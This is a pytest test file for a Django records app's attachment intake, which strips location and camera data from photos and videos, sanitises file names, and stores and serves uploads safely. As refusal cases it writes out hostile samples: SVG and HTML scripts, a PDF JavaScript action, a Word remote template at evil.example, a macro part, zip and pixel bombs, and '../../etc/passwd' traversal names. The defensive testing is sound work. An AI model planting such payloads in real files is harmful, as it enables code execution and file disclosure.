"""What is attached opens, carries no place it was not asked to keep, and can do nothing by itself."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any
from uuid import UUID

import pytest
from django.conf import settings
from docx import Document
from PIL import ExifTags, Image

from tests.intake import township as t
from yanzhen.faces.downloads import response_for
from yanzhen.kernel.base.refused import Refused
from yanzhen.kernel.base.storage import FsyncStorage
from yanzhen.kernel.guard.access import Actor
from yanzhen.kernel.guard.verify import verify
from yanzhen.kernel.papers.actions import attach, withdraw
from yanzhen.kernel.papers.media import admit, named
from yanzhen.kernel.papers.models import Paper
from yanzhen.kernel.records.actions import write
from yanzhen.kernel.records.models import Record
from yanzhen.kernel.register.actions import found_household
from yanzhen.packs.visits.pack import visit

UID = UUID("6f1c1f34-8a50-4a1c-9d7e-2f6a1c0b7a11")


@pytest.fixture
def place(db: Any) -> Iterator[t.Township]:
    yield t.build()


@pytest.fixture
def record(place: t.Township) -> Record:
    home = found_household(actor=place.by, at=t.AT, org=place.village, number="1", since=t.DAY)
    return write(visit, actor=place.by, org=place.village, at=t.AT, happened_on=t.DAY, title="走访", household=home)


def photograph(form: str = "JPEG", size: tuple[int, int] = (64, 32), turned: int = 1) -> bytes:
    """A picture with a place, a camera and a remark in it; the upper left corner is red."""
    picture = Image.new("RGB", size, "blue")
    picture.paste("red", (0, 0, size[0] // 4, size[1] // 4))
    exif = Image.Exif()
    exif[ExifTags.Base.Make], exif[ExifTags.Base.Orientation] = "SECRETCAM", turned
    exif[ExifTags.IFD.GPSInfo] = {1: "N", 2: (36.0, 30.0, 1.0), 3: "E", 4: (118.0, 0.0, 2.0)}
    out = io.BytesIO()
    picture.save(out, form, exif=exif, quality=95)
    return out.getvalue() + (b"TAIL-SECRET" if form == "JPEG" else b"")


def exif_of(data: bytes) -> Image.Exif:
    return Image.open(io.BytesIO(data)).getexif()


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP"])
def test_a_photograph_loses_place_camera_and_tail(form: str) -> None:
    assert exif_of(photograph(form)).get_ifd(ExifTags.IFD.GPSInfo), "it has one"
    media, kept = admit(photograph(form), keep_place=False)
    assert media == f"image/{form.lower()}"
    assert not exif_of(kept) and b"SECRET" not in kept


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP"])
def test_a_visitor_may_keep_the_place_and_only_that(form: str) -> None:
    _media, kept = admit(photograph(form), keep_place=True)
    assert exif_of(kept).get_ifd(ExifTags.IFD.GPSInfo)[1] == "N"
    assert ExifTags.Base.Make not in exif_of(kept) and b"SECRET" not in kept


def test_a_photograph_stands_upright_and_is_no_larger_than_needed() -> None:
    _media, kept = admit(photograph(size=(3000, 1500), turned=6), keep_place=False)
    picture = Image.open(io.BytesIO(kept))
    assert picture.size == (1000, 2000)
    red, _green, blue = picture.getpixel((990, 10))
    assert red > 200 > 60 > blue, "what was the upper left corner is the upper right one now"


def png_of(width: int, height: int) -> bytes:
    """The head of a picture that claims to be that large."""
    head = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + head + struct.pack(">I", zlib.crc32(head))


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HOSTILE = {
    "a bomb of pixels": png_of(60_000, 60_000),
    "a drawing that runs": SVG,
    "a page": b"<html><script>alert(1)</script></html>",
    "a page called a photograph": b"\xff\xd8\xff<html>",
    "half a photograph": photograph()[:200],
    "a program": b"MZ\x90\x00",
    "nothing": b"",
    "an archive": b"PK\x03\x04" + bytes(60),
    "a pdf without an end": b"%PDF-1.7\n1 0 obj <<>> endobj",
}


@pytest.mark.parametrize("data", HOSTILE.values(), ids=HOSTILE)
def test_what_is_no_harmless_file_is_refused(data: bytes) -> None:
    with pytest.raises(Refused):
        admit(data, keep_place=False)


def package(**parts: bytes) -> bytes:
    """A Word document with some parts added or replaced."""
    out, made = io.BytesIO(), io.BytesIO()
    Document().save(out)
    with zipfile.ZipFile(out) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, parts.get(name) or old.read(name))
        for name in parts.keys() - set(old.namelist()):
            new.writestr(name, parts[name])
    return made.getvalue()


def test_a_word_document_comes_in_as_it_is() -> None:
    data = package()
    media, kept = admit(data, keep_place=False)
    assert media.endswith("wordprocessingml.document") and kept == data


TEMPLATE = b"""<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"
Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>"""
ENTITIES = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "b">]><d>&a;</d>'
ARMED = {
    "a macro": {"word/vbaProject.bin": b"x"},
    "a template from outside": {"word/_rels/settings.xml.rels": TEMPLATE},
    "an entity": {"word/document.xml": ENTITIES},
    "a way out": {"../../etc/passwd": b"x"},
    "a bomb": {"word/media/a.bin": bytes(50_000_000)},
    "no document": {"word/document.xml": b"not xml"},
}


@pytest.mark.parametrize("parts", ARMED.values(), ids=ARMED)
def test_an_armed_document_is_refused(parts: dict[str, bytes]) -> None:
    with pytest.raises(Refused):
        admit(package(**parts), keep_place=False)


def pdf(inside: bytes = b"") -> bytes:
    body = b"%PDF-1.4\n1 0 obj << /Type /Catalog " + inside + b" >> endobj\n"
    return body + b"xref\n0 1\n0000000000 65535 f\ntrailer << /Root 1 0 R >>\nstartxref\n" + str(len(body)).encode() + b"\n%%EOF\n"


def test_a_pdf_comes_in_unless_it_holds_a_script() -> None:
    assert admit(pdf(), keep_place=False) == ("application/pdf", pdf())
    with pytest.raises(Refused, match="脚本"):
        admit(pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), keep_place=False)


def box(kind: bytes, *inside: bytes) -> bytes:
    body = b"".join(inside)
    return struct.pack(">I", len(body) + 8) + kind + body


CLIP = box(b"ftyp", b"isom", bytes(4)) + box(b"moov", box(b"mvhd", bytes(20)), box(b"udta", box(b"\xa9xyz", b"+36.5+118.0/"))) + box(b"mdat", b"frames")


def test_a_recording_loses_its_place_and_nothing_moves() -> None:
    media, kept = admit(CLIP, keep_place=False)
    assert media == "video/mp4" and b"+36.5" not in kept and b"frames" in kept and len(kept) == len(CLIP)
    assert admit(CLIP, keep_place=True) == ("video/mp4", CLIP)


@pytest.mark.parametrize("data", [CLIP[:-3], CLIP + b"\x00\x00\x00\x09junk", box(b"ftyp", b"isom")], ids=["cut", "more", "head"])
def test_a_recording_that_does_not_add_up_is_refused(data: bytes) -> None:
    with pytest.raises(Refused):
        admit(data, keep_place=False)


@pytest.mark.parametrize(("given", "kept"), [
    ("现场.JPG", "现场.jpg"), ("..\\..\\etc/passwd", "passwd.jpg"), ("\u202egpj.exe", "gpj.jpg"), ("a\x00b\n.png", "a b.jpg"), ("", "附件.jpg"),
    ("长" * 300, "长" * 116 + ".jpg"),
])
def test_a_name_has_no_folders_no_tricks_and_the_ending_of_its_type(given: str, kept: str) -> None:
    assert named(given, "image/jpeg") == kept


def test_the_bytes_lie_under_their_digest_before_the_row(record: Record, place: t.Township) -> None:
    paper = attach(record, actor=place.by, at=t.AT, uid=UID, name="现场.jpg", data=photograph())
    assert (Path(settings.MEDIA_ROOT) / paper.sha256[:2] / paper.sha256).stat().st_size == paper.size
    assert attach(record, actor=place.by, at=t.AT, uid=UID, name="现场.jpg", data=photograph()) == paper
    assert Paper.objects.count() == 1
    assert verify() == []


def test_a_file_that_was_changed_or_lost_is_found(record: Record, place: t.Township) -> None:
    changed, lost = (attach(record, actor=place.by, at=t.AT, name="a.jpg", data=photograph(size=(n, n))) for n in (40, 48))
    storage = FsyncStorage()
    Path(storage.path(storage.name_of(changed.sha256))).write_bytes(b"other")
    Path(storage.path(storage.name_of(lost.sha256))).unlink()
    assert [(f.sort, f.where) for f in verify()] == [("file", f"papers.paper:{changed.pk}"), ("file", f"papers.paper:{lost.pk}")]


def test_who_has_nothing_to_do_with_a_record_attaches_nothing(record: Record, place: t.Township) -> None:
    stranger = Actor(place.person.pk, "某人", t.DAY)
    with pytest.raises(Refused, match="您现在的岗位不能"):
        attach(record, actor=stranger, at=t.AT, name="a.jpg", data=photograph())
    assert not Paper.objects.exists() and not Paper.objects.visible_to(stranger).exists()


def test_a_paper_withdrawn_is_served_no_more_and_only_with_a_reason(record: Record, place: t.Township) -> None:
    paper = attach(record, actor=place.by, at=t.AT, name="a.jpg", data=photograph())
    with pytest.raises(Refused, match="为什么"):
        withdraw(paper, actor=place.by, at=t.AT, reason=" ")
    withdraw(paper, actor=place.by, at=t.AT, reason="拍错了")
    assert not Paper.objects.visible_to(place.console).exists()
    with pytest.raises(Refused, match="已经撤下"):
        withdraw(paper, actor=place.by, at=t.AT, reason="拍错了")
    assert verify() == []


def test_a_file_goes_out_as_something_to_save(record: Record, place: t.Township) -> None:
    paper = attach(record, actor=place.by, at=t.AT, name="现场 1.jpg", data=photograph())
    response = response_for(paper)
    assert response["Content-Disposition"].startswith("attachment;") and response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"].startswith("sandbox;") and "no-store" in response["Cache-Control"]
    assert len(b"".join(response.streaming_content)) == paper.size


def test_nothing_is_attached_to_what_is_void(record: Record, place: t.Township) -> None:
    Record.objects.filter(pk=record.pk).update(voided_on=date(2026, 1, 1))
    with pytest.raises(Refused, match="已经作废"):
        attach(Record.objects.get(), actor=place.by, at=t.AT, name="a.jpg", data=photograph())
